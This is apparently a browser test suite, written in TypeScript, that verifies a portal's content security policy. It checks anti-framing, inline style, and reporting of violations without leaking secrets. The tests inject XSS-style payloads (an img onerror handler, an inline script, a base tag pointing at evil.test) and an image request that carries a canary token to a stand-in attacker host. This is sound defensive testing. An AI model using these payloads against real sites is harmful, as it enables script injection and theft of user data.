/** The portal's content security policy in a browser. */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { browserAssets } from "../../../src/publishing/browser-assets.ts";
import { send } from "../../harness/http.ts";
import { longTest } from "../../harness/long-test.ts";
import { freePort } from "../../harness/postgres.ts";
import { repetitions } from "../../harness/repetitions.ts";
import { until } from "../../harness/until.ts";
import { portalTests } from "./harness.ts";

const metricsPort = await freePort();
const { open, navigate, visit, url, complaints, expectComplaint, server } = portalTests({
  env: { METRICS_PORT: String(metricsPort) },
});

let elsewhere: Server;
beforeAll(async () => {
  elsewhere = createServer((_request, response) => {
    response.setHeader("content-type", "text/html");
    response.end(`<!doctype html><title>Elsewhere</title><iframe src="${url()}/portal/components"></iframe>`);
  });
  const { promise, resolve } = Promise.withResolvers<void>();
  elsewhere.listen(0, "127.0.0.1", resolve);
  await promise;
});
afterAll(() => elsewhere.close());

describe("the portal in a browser", () => {
  longTest("the portal cannot be framed by another page", async () => {
    const { port } = elsewhere.address() as AddressInfo;
    const page = await visit(`http://127.0.0.1:${port}/`);
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    await page.waitForTimeout(300);
    expect(await frame?.locator("#portal").count()).toBe(0);
    await expectComplaint(/frame-ancestors|Refused to display|refused to connect/u);
  });

  it("the portal needs no inline style for its dialogs, frames the visitors' page without scripts, runs no injected script, and follows no injected form or base", async () => {
    const page = await open("/");
    const countInlineStyles = () => page.locator("style").count();
    const initialCount = await countInlineStyles();
    await page.keyboard.press("?");
    await page.getByRole("dialog").waitFor();
    await expect.poll(() => countInlineStyles()).toBe(initialCount);
    expect(complaints()).toEqual([]);

    const frameState = await page.evaluate(
      `(async (style) => {
      const frame = document.createElement("iframe");
      frame.sandbox = "allow-same-origin";
      frame.srcdoc = "<style>" + style + "</style><body><main class=wide>Here</main><script>parent.ranInFrame = true</scr" + "ipt>";
      const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
      document.body.append(frame);
      await loaded;
      const main = frame.contentDocument.querySelector("main");
      const plain = document.createElement("main");
      return [getComputedStyle(main).maxInlineSize !== "none" || getComputedStyle(main).padding !== "0px", window.ranInFrame];
    })(${JSON.stringify(browserAssets.pageStyle)})`,
    );
    expect(frameState).toEqual([true, undefined]);
    // Of the script alone it complains.
    expect(complaints().filter((complaint) => /style/iu.test(complaint))).toEqual([]);

    const injectedValues = await page.evaluate(`(async () => {
      document.body.insertAdjacentHTML("beforeend", '<img src="x:" onerror="window.ranInline = true">');
      const script = document.createElement("script");
      script.textContent = "window.ranScript = true";
      document.body.append(script);
      const base = document.createElement("base");
      base.href = "https://evil.test/";
      document.head.append(base);
      await new Promise((resolve) => setTimeout(resolve, 200));
      const isFollowed = document.baseURI.startsWith("https://evil.test");
      // The end of the document would complain of it once more.
      base.remove();
      return [window.ranInline, window.ranScript, isFollowed];
    })()`);
    expect(injectedValues).toEqual([undefined, undefined, false]);
    await expectComplaint(/Content Security Policy/u);
  });

  it("the portal reports policy violations to the service, which counts them and logs nothing secret; its settings pages violate none", async () => {
    const readCounts = async () =>
      (await send(metricsPort, "/metrics")).text.match(/^signalbox_policy_violations_total\{.*$/gmu) ?? [];
    const logged = () =>
      server()
        .log.filter((line) => line.includes("content security policy violation"))
        .map((line) => JSON.parse(line) as unknown);
    const secret = "c4n4ryT0ken";
    const page = await open("/components");
    const [countsBefore, lines] = [await readCounts(), logged().length];
    const screens = [
      ["page", "Page"],
      ["api-credentials", "API Credentials"],
      ["people", "People"],
      ["uptime", "Status and uptime"],
      ["integrations", "Integrations"],
      ["notifications", "Notifications"],
      ["team-alerts", "Team alerts"],
    ] as const;
    // The tests of the others fail as well when the browser complains.
    for (const [path, heading] of screens.slice(0, repetitions(2, screens.length))) {
      await navigate(page, `/settings/${path}`);
      await page.getByRole("heading", { level: 1, name: heading }).waitFor();
    }
    // The control: permitted content is not reported.
    await page.evaluate("document.body.append(Object.assign(new Image(), { src: '/portal/none.png' }))");
    await page.waitForTimeout(300);
    expect([await readCounts(), logged().length]).toEqual([countsBefore, lines]);
    await page.evaluate(`(() => {
      history.replaceState(null, "", "/portal/components?q=${secret}#${secret}");
      const script = document.createElement("script");
      script.textContent = "window.taken = '${secret}'";
      document.body.append(script);
      document.body.append(Object.assign(new Image(), { src: "https://evil.test/${secret}?${secret}#${secret}" }));
    })()`);
    await until(() => logged().length >= lines + 2);
    const violation = { level: "warn", disposition: "enforce", document: "portal" };
    expect(logged().slice(lines)).toMatchObject([
      { ...violation, directive: "script-src-elem", blocked: "inline" },
      { ...violation, directive: "img-src", blocked: "https://evil.test" },
    ]);
    expect((await readCounts()).join()).toMatch(/script-src-elem.*img-src|img-src.*script-src-elem/su);
    expect(`${server().log.join("")}${(await readCounts()).join()}`).not.toContain(secret);
    await expectComplaint(/Content Security Policy/u);
  });
});
